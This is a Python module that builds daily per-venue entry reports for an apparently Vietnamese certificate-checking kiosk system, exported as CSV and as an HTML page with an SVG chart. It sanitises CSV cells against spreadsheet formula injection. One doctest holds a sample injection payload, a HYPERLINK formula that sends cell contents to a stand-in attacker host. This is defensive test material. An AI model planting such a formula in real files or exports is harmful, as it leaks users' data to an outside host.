"""The daily report per venue: entries, passes, fails by reason, reviews, overrides,
entries per hour. As CSV for spreadsheets and as a readable HTML page with an inline
SVG chart (no JavaScript).

The day is Vietnam local time (UTC+7). `entries` counts scans (guard overrides are not
new people, so they are counted apart): entries = passes + fails + reviews.

    >>> rows = [{"venue_code": "V1", "outcome": "pass", "reason": "ok", "hour_local": 8, "n": 3}]
    >>> build(date(2026, 3, 2), rows).venues[0].entries
    3
"""

from __future__ import annotations

import csv
import html
import io
from dataclasses import dataclass, field
from datetime import date
from typing import Any, Iterable, Mapping

__all__ = ["DailyReport", "VenueDay", "build", "to_csv", "to_html", "csv_cell"]

HOURS = 24
#: Chart geometry (pixels): wide enough for 24 labelled bars on a laptop screen.
CHART_W, CHART_H, CHART_PAD = 720, 200, 28


@dataclass
class VenueDay:
    venue_code: str
    entries: int = 0
    passes: int = 0
    fails: int = 0
    reviews: int = 0
    overrides: int = 0
    fails_by_reason: dict[str, int] = field(default_factory=dict)
    per_hour: list[int] = field(default_factory=lambda: [0] * HOURS)


@dataclass
class DailyReport:
    day: date
    venues: list[VenueDay]

    def fail_reasons(self) -> list[str]:
        return sorted({r for v in self.venues for r in v.fails_by_reason})


def build(day: date, rows: Iterable[Mapping[str, Any]]) -> DailyReport:
    """Fold grouped counts (venue, outcome, reason, hour, n) into per-venue rows."""
    venues: dict[str, VenueDay] = {}
    for r in rows:
        v = venues.setdefault(r["venue_code"], VenueDay(r["venue_code"]))
        n = int(r["n"])
        if r["reason"] == "override":
            v.overrides += n
            continue
        v.entries += n
        v.per_hour[int(r["hour_local"])] += n
        if r["outcome"] == "pass":
            v.passes += n
        elif r["outcome"] == "fail":
            v.fails += n
            v.fails_by_reason[r["reason"]] = v.fails_by_reason.get(r["reason"], 0) + n
        else:
            v.reviews += n
    return DailyReport(day, [venues[k] for k in sorted(venues)])


#: A spreadsheet reads a cell starting with one of these as a formula (or, for a control
#: character, may): such cells get a leading apostrophe (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value: Any) -> Any:
    """A value safe to open in a spreadsheet; numbers pass as they are.

    >>> csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")')[:4]
    "'=HY"
    >>> csv_cell("V1"), csv_cell(-3)
    ('V1', -3)
    """
    if isinstance(value, str) and value and (value.startswith(FORMULA_START) or ord(value[0]) < 0x20
                                             or value[0] == "\x7f"):
        return "'" + value
    return value


def to_csv(report: DailyReport) -> str:
    """One row per venue; one `fail_<reason>` column per fail reason seen that day. Text
    cells that a spreadsheet would run as a formula are neutralised (csv_cell)."""
    reasons = report.fail_reasons()
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")
    w.writerow(map(csv_cell, ["date", "venue_code", "entries", "passes", "fails", "reviews", "overrides",
                              *[f"fail_{r}" for r in reasons]]))
    for v in report.venues:
        w.writerow(map(csv_cell, [report.day.isoformat(), v.venue_code, v.entries, v.passes, v.fails,
                                  v.reviews, v.overrides, *[v.fails_by_reason.get(r, 0) for r in reasons]]))
    return out.getvalue()


def _chart(v: VenueDay) -> str:
    """Entries per hour as an inline SVG bar chart with hour labels and counts."""
    peak = max(v.per_hour) or 1
    bar_w = (CHART_W - 2 * CHART_PAD) / HOURS
    plot_h = CHART_H - 2 * CHART_PAD
    parts = [f'<svg xmlns="http://www.w3.org/2000/svg" width="{CHART_W}" height="{CHART_H}" '
             f'role="img" aria-label="Entries per hour at {html.escape(v.venue_code)}">',
             f'<line x1="{CHART_PAD}" y1="{CHART_H - CHART_PAD}" x2="{CHART_W - CHART_PAD}" '
             f'y2="{CHART_H - CHART_PAD}" stroke="#444"/>']
    for hour, n in enumerate(v.per_hour):
        h = plot_h * n / peak
        x = CHART_PAD + hour * bar_w
        y = CHART_H - CHART_PAD - h
        parts.append(f'<rect x="{x + 2:.1f}" y="{y:.1f}" width="{bar_w - 4:.1f}" height="{h:.1f}" '
                     f'fill="#2a7ab9"><title>{hour:02d}:00 — {n}</title></rect>')
        if n:
            parts.append(f'<text x="{x + bar_w / 2:.1f}" y="{y - 3:.1f}" font-size="10" '
                         f'text-anchor="middle">{n}</text>')
        parts.append(f'<text x="{x + bar_w / 2:.1f}" y="{CHART_H - CHART_PAD + 14}" font-size="10" '
                     f'text-anchor="middle">{hour:02d}</text>')
    parts.append("</svg>")
    return "".join(parts)


def _reason_words(code: str) -> str:
    """A reason code as the kiosk's screen says it, with the code for reference:
    `Chứng nhận đã hết hạn / This certificate has expired (expired)`."""
    from kiosk.display.texts import reason_text

    text = reason_text(code)
    label = f"{text.vi} / {text.en} " if text is not None else ""
    return html.escape(label) + f"<code>({html.escape(code)})</code>"


def to_html(report: DailyReport) -> str:
    """A self-contained page: a summary table and one chart per venue."""
    e = html.escape
    day = report.day.isoformat()
    rows = []
    for v in report.venues:
        reasons = "<br>".join(f"{_reason_words(k)}: <b>{n}</b>"
                              for k, n in sorted(v.fails_by_reason.items(), key=lambda kv: (-kv[1], kv[0]))) or "—"
        rows.append(f"<tr><td>{e(v.venue_code)}</td><td>{v.entries}</td><td>{v.passes}</td>"
                    f"<td>{v.fails}</td><td class=\"reasons\">{reasons}</td><td>{v.reviews}</td><td>{v.overrides}</td></tr>")
    charts = "".join(f"<section><h2>{e(v.venue_code)} — lượt vào theo giờ / entries per hour</h2>"
                     f"{_chart(v)}</section>" for v in report.venues)
    empty = "" if report.venues else "<p>Không có dữ liệu cho ngày này. / No entries for this day.</p>"
    return f"""<!doctype html>
<html lang="vi"><head><meta charset="utf-8">
<title>Báo cáo ngày {day} / Daily report {day}</title>
<style>body{{font-family:sans-serif;margin:2em}}table{{border-collapse:collapse}}
td,th{{border:1px solid #999;padding:4px 10px;text-align:right}}td:first-child,td.reasons{{text-align:left}}
code{{color:#666;font-size:85%}}</style>
</head><body>
<h1>Báo cáo ngày {day} / Daily report {day}</h1>
<p>Giờ Việt Nam (UTC+7). Vietnam local time (UTC+7).
<a href="daily.csv?date={day}">CSV</a></p>
{empty}<table><thead><tr><th>Địa điểm / Venue</th><th>Lượt / Entries</th><th>Đạt / Pass</th>
<th>Không đạt / Fail</th><th>Lý do / Fail reasons</th><th>Xem xét / Review</th><th>Cho qua / Overrides</th>
</tr></thead><tbody>{''.join(rows)}</tbody></table>
{charts}
</body></html>
"""
